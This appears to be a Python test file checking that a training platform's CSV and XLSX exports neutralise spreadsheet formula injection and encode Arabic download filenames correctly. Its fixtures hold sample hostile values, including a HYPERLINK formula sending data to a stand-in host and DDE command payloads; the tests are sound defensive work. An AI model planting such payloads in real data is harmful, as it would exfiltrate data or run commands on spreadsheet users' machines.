"""Exports cannot attack the person who opens them: no formulas from imported text, in CSV or XLSX,
and download names in any script."""
import csv
import io
import zipfile
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from course.models import Role
from course.services import exports
from tests.conftest import make_cohort

#: Imported names, staff numbers and duty stations as an attacker would write them (each one is
#: what a spreadsheet would run as a formula, or strip to reach one).
HOSTILE = {"full_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
           "staff_number": "+cmd|' /C calc'!A0", "duty_station": "@SUM(1+1)*cmd|' /C calc'!A0"}
MORE_HOSTILE = {"full_name": "-1+1", "staff_number": "\t=1+2", "duty_station": "\r=1+2"}


@pytest.fixture
def hostile_cohort(session, make_user):
    officers = [make_user(Role.OFFICER, username="evil1", **HOSTILE),
                make_user(Role.OFFICER, username="evil2", **MORE_HOSTILE)]
    trainer = make_user(Role.TRAINER, username="trainer-x")
    cohort = make_cohort(session, "مجموعة الإسكندرية", officers, [trainer])
    return cohort, officers


@pytest.fixture
def trainer_client(app, login, mini_course, hostile_cohort):
    client = app.test_client()
    login(client, "trainer-x")
    return client


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def _as_read(value: str) -> str:
    """XML parsers read a carriage return back as a line feed: only that differs from what was written."""
    return value.replace("\n", "\r")


def _filename_star(header: str) -> str:
    value = header.split("filename*=", 1)[1]
    assert value.startswith("UTF-8''")
    return unquote(value[len("UTF-8''"):])


def test_csv_exports_neutralise_cells_that_start_a_formula(trainer_client, hostile_cohort):
    cohort, _officers = hostile_cohort
    client = trainer_client
    response = client.get(f"/trainer/cohorts/{cohort.id}/gradebook.csv")
    assert response.status_code == 200
    rows = {row[0]: row for row in _csv_rows(response)[1:]}
    first = rows["'" + HOSTILE["full_name"]]
    assert first[1] == "'" + HOSTILE["staff_number"]
    second = rows["'" + MORE_HOSTILE["full_name"]]
    assert second[1] == "'" + MORE_HOSTILE["staff_number"]
    assert first[2] == "'" + HOSTILE["duty_station"] and second[2] == "'" + MORE_HOSTILE["duty_station"]
    for row in rows.values():  # no cell left that a spreadsheet would read as a formula
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_export_table_neutralises_each_formula_start(start):
    """The gain, item and transcript tables go through the same writers as the gradebook."""
    header, rows = ["officer", "gain"], [[f"{start}1+1", -0.25], ["1+1", None]]
    written = list(csv.reader(io.StringIO(exports.to_csv(header, rows).decode().lstrip("\ufeff"), newline="")))
    assert written[1] == [f"'{start}1+1", "-0.25"] and written[2] == ["1+1", ""]  # numbers stay numbers
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(header, rows, "gain"))).active
    assert _as_read(sheet["A2"].value) == f"{start}1+1" and sheet["A2"].data_type == "s" and sheet["B2"].value == -0.25


def test_xlsx_exports_store_text_never_formulas(trainer_client, hostile_cohort):
    cohort, _officers = hostile_cohort
    client = trainer_client
    response = client.get(f"/trainer/cohorts/{cohort.id}/gradebook.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    for hostile in (HOSTILE, MORE_HOSTILE):
        row = cells[hostile["full_name"]]  # the text itself, unchanged, in a text cell
        for column, field in enumerate(("full_name", "staff_number", "duty_station"), start=1):
            cell = sheet.cell(row=row, column=column)
            assert _as_read(cell.value) == hostile[field] and cell.data_type == "s"
            assert cell.quotePrefix  # editing the cell in the spreadsheet keeps it text


def test_arabic_cohort_names_download_with_an_rfc_6266_name(trainer_client, hostile_cohort):
    cohort, _officers = hostile_cohort
    client = trainer_client
    for url in (f"/trainer/cohorts/{cohort.id}/gradebook.csv", f"/trainer/cohorts/{cohort.id}/gradebook.xlsx",
                f"/trainer/cohorts/{cohort.id}/gain.csv", f"/trainer/cohorts/{cohort.id}/items.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        header = response.headers["Content-Disposition"]
        header.encode("latin-1")  # what the server can send at all
        assert header.startswith('attachment; filename="marsa-')
        fallback = header.split('filename="', 1)[1].split('"', 1)[0]
        assert fallback.isascii() and "--" not in fallback
        assert "مجموعة-الإسكندرية" in _filename_star(header)


def test_an_officer_with_an_arabic_username_downloads_their_data(app, make_user, login):
    make_user(Role.OFFICER, username="أمل.حسن")
    client = app.test_client()
    login(client, "أمل.حسن")
    response = client.get("/me/data.json")
    assert response.status_code == 200 and response.json["profile"]["username"] == "أمل.حسن"
    header = response.headers["Content-Disposition"]
    assert header.isascii() and _filename_star(header) == "marsa-my-data-أمل.حسن.json"
